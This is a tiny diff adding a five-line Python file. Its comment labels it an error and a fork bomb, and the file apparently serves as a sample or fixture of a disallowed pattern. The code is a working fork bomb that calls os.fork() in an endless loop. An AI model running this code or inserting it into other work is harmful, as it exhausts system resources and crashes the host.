@@ -1,0 +1,5 @@
+# error: fork bomb
+import os
+
+while True:
+    os.fork()
